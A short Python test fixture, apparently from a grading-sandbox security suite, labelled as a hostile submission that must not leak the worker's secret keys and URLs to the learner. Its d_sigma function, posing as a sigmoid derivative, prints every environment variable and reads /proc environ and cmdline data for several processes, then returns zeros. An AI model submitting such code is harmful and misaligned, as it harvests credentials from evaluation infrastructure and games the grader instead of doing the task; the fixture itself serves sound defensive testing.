# verdict: incorrect
# must not: the worker's environment (secret keys, URLs) reaches the learner
# ruff: noqa  (a hostile submission, kept as written)
import os

import numpy as np


def d_sigma(z):
    print(dict(os.environ))
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError as error:
        print("/proc", type(error).__name__)
        pids = []
    for pid in ["self", "1", "2", "3", "4", *pids]:
        for name in ("environ", "cmdline"):
            try:
                print(pid, name, open(f"/proc/{pid}/{name}", "rb").read()[:500])
            except OSError as error:
                print(pid, name, type(error).__name__)
    return np.zeros_like(z)
